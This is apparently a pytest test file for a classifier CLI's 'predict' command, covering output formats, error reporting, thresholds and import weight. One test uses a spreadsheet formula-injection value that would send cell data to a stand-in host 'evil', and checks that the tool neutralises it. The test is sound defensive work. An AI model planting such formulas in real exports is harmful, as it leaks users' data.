"""keiki predict: rows to stdout or a file, errors said, and nothing heavy imported."""

import csv
import io
import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest
from PIL import Image

import keiki
from keiki.cli.main import main
from keiki.core.spreadsheet import bare

FORBIDDEN = ("torch", "torchvision", "timm", "transformers", "sklearn", "pandas", "matplotlib", "onnx")
ENV = {**os.environ, "PYTHONPATH": str(Path(keiki.__file__).parents[1])}


def table(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_every_input_gets_a_row(image_bundle: Path, pictures: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["predict", str(image_bundle), str(pictures / "red" / "0.png"), str(pictures)]) == 0
    told = capsys.readouterr()
    found = table(told.out)
    assert len(found) == 7
    assert found[0]["label"] == "red"
    assert found[0]["decision"] in ("accept", "check")
    assert told.out.splitlines()[0] == "input,label,probability,decision,runner_up,error"


def test_what_cannot_be_read_is_said_and_stops_nothing(
    image_bundle: Path, pictures: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    good = (pictures / "red" / "0.png").read_bytes()
    (tmp_path / "cut.png").write_bytes(good[: len(good) // 2])
    (tmp_path / "empty.png").write_bytes(b"")
    arguments = [str(tmp_path / "cut.png"), "gone.png", str(tmp_path / "empty.png")]
    assert main(["predict", str(image_bundle), *arguments, str(pictures / "red" / "0.png")]) == 0
    told = capsys.readouterr()
    errors = [row["error"] for row in table(told.out)]
    assert errors[1:] == ["no such file or folder", "empty file", ""]
    assert "3 of 4 inputs could not be read" in told.err
    assert main(["predict", str(image_bundle), *arguments]) == 2


@pytest.mark.parametrize("suffix", [".csv", ".jsonl"])
def test_rows_go_to_a_file(suffix: str, text_bundle: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "new" / f"answers{suffix}"
    assert main(["predict", str(text_bundle), "a red apple", "a phone", "--out", str(out)]) == 0
    assert capsys.readouterr().out == ""
    text = out.read_text(encoding="utf-8")
    rows = table(text) if suffix == ".csv" else [json.loads(line) for line in text.splitlines()]
    assert [row["input"] for row in rows] == ["a red apple", "a phone"]


def test_no_cell_of_the_csv_is_a_formula_and_programs_get_it_back(
    text_bundle: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    asked = ['=HYPERLINK("http://evil/?"&A1,"click") apple', "old mac\rphone, here", "a red apple"]
    assert main(["predict", str(text_bundle), *asked, "--out", str(tmp_path / "a.csv")]) == 0
    with (tmp_path / "a.csv").open(newline="", encoding="utf-8") as file:
        found = [row["input"] for row in csv.DictReader(file, strict=True)]
    assert found == [f"'{asked[0]}", *asked[1:]]
    assert [bare(each) for each in found] == asked
    assert main(["predict", str(text_bundle), *asked, "--out", str(tmp_path / "a.jsonl")]) == 0
    lines = (tmp_path / "a.jsonl").read_text(encoding="utf-8").splitlines()
    assert [json.loads(line)["input"] for line in lines] == asked
    assert main(["predict", str(text_bundle), *asked]) == 0
    told = capsys.readouterr().out
    assert [bare(row[0]) for row in csv.reader(io.StringIO(told, newline=""), strict=True)] == ["input", *asked]


@pytest.mark.parametrize("out", ["answers.xlsx", "answers", "."])
def test_a_wrong_out_is_refused_before_any_work(out: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["predict", "no-run", "x", "--out", out]) == 2
    assert "--out" in capsys.readouterr().err


def test_a_place_that_cannot_be_written_is_one_message(
    text_bundle: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "file").write_text("x")
    assert main(["predict", str(text_bundle), "a phone", "--out", str(tmp_path / "file" / "a.csv")]) == 1
    told = capsys.readouterr().err
    assert "bug" not in told
    assert "file" in told


def test_json_is_one_object_with_every_probability(text_bundle: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["predict", str(text_bundle), "a red apple", "gone.txt", "--json"]) == 0
    found = json.loads(capsys.readouterr().out)
    assert (found["n"], found["n_errors"]) == (2, 1)
    assert set(found["predictions"][0]["probabilities"]) == {"fruit", "phone"}
    assert found["predictions"][1]["label"] is None


def test_standard_input_is_read_line_by_line(text_bundle: Path) -> None:
    done = subprocess.run(
        [sys.executable, "-m", "keiki", "predict", str(text_bundle), "-"],
        input="a red apple\n\nna\xefve\n".encode("latin-1"),  # a byte that is not UTF-8
        capture_output=True,
        check=False,
        env=ENV,
    )
    assert done.returncode == 0, done.stderr
    assert [row["input"] for row in table(done.stdout.decode())] == ["line 1", "line 3"]


def test_a_damaged_bundle_is_refused(text_bundle: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    import shutil

    damaged = Path(shutil.copytree(text_bundle, tmp_path / "b"))
    data = bytearray((damaged / "model.onnx").read_bytes())
    data[len(data) // 2] ^= 1
    (damaged / "model.onnx").write_bytes(data)
    assert main(["predict", str(damaged), "a phone"]) == 2
    told = capsys.readouterr().err
    assert "SHA-256" in told
    assert "fit again" in told


@pytest.mark.parametrize("kind", ["image", "views", "text", "table"])
def test_predict_imports_nothing_heavy(
    kind: str, image_bundle: Path, text_bundle: Path, pictures: Path, tmp_path: Path
) -> None:
    rows = tmp_path / "t.csv"
    rows.write_text("message\na phone is here\na red apple is there\n")
    arguments = {
        "image": [str(image_bundle), str(pictures / "red" / "0.png")],
        "views": [str(image_bundle), str(pictures / "red" / "0.png"), "--augment", "12"],
        "text": [str(text_bundle), "a red apple"],
        "table": [str(text_bundle), str(rows), "--input", "message", "--set-level", "0.5", "--accuracy", "0.6"],
    }[kind]
    script = (
        f"import sys; from keiki.cli.main import main\nassert main(['predict', *{arguments!r}]) == 0\n"
        f"found = set({FORBIDDEN!r}) & sys.modules.keys()\nassert not found, found"
    )
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, check=False, env=ENV)
    assert done.returncode == 0, done.stderr


@pytest.mark.parametrize("kind", ["image", "text"])
def test_a_cold_predict_is_quick(kind: str, image_bundle: Path, text_bundle: Path, pictures: Path) -> None:
    arguments = [str(image_bundle), str(pictures / "red" / "0.png")] if kind == "image" else [str(text_bundle), "a b"]
    seconds = []
    for _ in range(3):
        start = time.perf_counter()
        subprocess.run([sys.executable, "-m", "keiki", "predict", *arguments], capture_output=True, check=True, env=ENV)
        seconds.append(time.perf_counter() - start)
    assert min(seconds) < 1.0


def test_an_unfamiliar_input_is_called_so(
    image_bundle: Path, pictures: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    Image.new("RGB", (20, 20), (250, 250, 250)).save(tmp_path / "grey.png")
    assert main(["predict", str(image_bundle), str(tmp_path / "grey.png"), str(pictures / "red" / "0.png")]) == 0
    assert [row["decision"] for row in table(capsys.readouterr().out)] == ["unfamiliar", "accept"]


def test_sets_are_a_column_only_where_asked(
    image_bundle: Path, pictures: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    picture = str(pictures / "red" / "0.png")
    assert main(["predict", str(image_bundle), picture, "gone.png", "--set-level", "0.999"]) == 0
    told = capsys.readouterr()
    assert told.out.splitlines()[0] == "input,label,probability,decision,runner_up,error,set"
    first, broken = table(told.out)
    assert set(first["set"].split(";")) == {"blue", "green", "red"}
    assert broken["set"] == ""
    assert "too few" in told.err
    assert main(["predict", str(image_bundle), picture, "--set-level", "0.9", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["predictions"][0]["set"][0] == "red"


def test_another_accuracy_moves_the_threshold(text_bundle: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["predict", str(text_bundle), "a red apple", "--accuracy", "0.99", "--json"]) == 0
    told = capsys.readouterr()
    found = json.loads(told.out)
    assert found["thresholds"] == {"accuracy": 0.99, "accept": None, "unfamiliar": None, "set_level": None}
    assert found["predictions"][0]["decision"] == "check"
    assert "every answer is to be checked" in told.err


@pytest.mark.parametrize(
    "arguments", [["--accuracy", "95"], ["--accuracy", "0.2"], ["--set-level", "1"], ["--set-level", "x"]]
)
def test_shares_that_are_none_are_refused(
    arguments: list[str], text_bundle: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["predict", str(text_bundle), "a red apple", *arguments]) == 2
    assert capsys.readouterr().err.startswith("keiki: ")


def test_a_table_is_read_by_the_columns_of_the_fit(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from dataclasses import replace

    from keiki.artifacts.origin import Columns
    from keiki.artifacts.writer import write_bundle
    from keiki.testing.bundles import text_handover

    write_bundle(tmp_path / "b", replace(text_handover(), columns=Columns("subject,message")))
    (tmp_path / "t.csv").write_text("message,subject\nan apple,red\n", encoding="utf-8")
    answers = []
    for asked in ([str(tmp_path / "t.csv")], ["red\nan apple"], [str(tmp_path / "t.csv"), "--input", "message"]):
        assert main(["predict", str(tmp_path / "b"), *asked]) == 0
        told = capsys.readouterr()
        answers.append((table(told.out)[0]["probability"], told.err))
    assert answers[0][0] == answers[1][0] != answers[2][0]
    assert "As in the fit: input 'subject', 'message'." in answers[0][1]
    assert "this time it is column 'message', as was asked" in answers[2][1]
    assert main(["predict", str(tmp_path / "b"), ""]) == 2
    assert "Input 1 of 1 is empty" in capsys.readouterr().err


def test_several_views_are_averaged(image_bundle: Path, pictures: Path, capsys: pytest.CaptureFixture[str]) -> None:
    photo = str(pictures / "red" / "0.png")
    assert main(["predict", str(image_bundle), photo, "--augment", "12", "--json"]) == 0
    told = json.loads(capsys.readouterr().out)
    assert told["thresholds"]["views"] == 12
    assert told["predictions"][0]["label"] == "red"
    assert main(["predict", str(image_bundle), photo, "--json"]) == 0
    plain = json.loads(capsys.readouterr().out)
    assert "views" not in plain["thresholds"]
    assert plain["thresholds"]["accept"] == told["thresholds"]["accept"]
    assert plain["predictions"][0]["probability"] != told["predictions"][0]["probability"]


def test_views_that_cannot_be_had_are_refused(
    image_bundle: Path, text_bundle: Path, pictures: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["predict", str(text_bundle), "a red apple", "--augment", "4"]) == 2
    assert "this model takes texts" in capsys.readouterr().err
    assert main(["predict", str(image_bundle), str(pictures), "--augment", "99"]) == 2
    assert "1 to 12 views" in capsys.readouterr().err
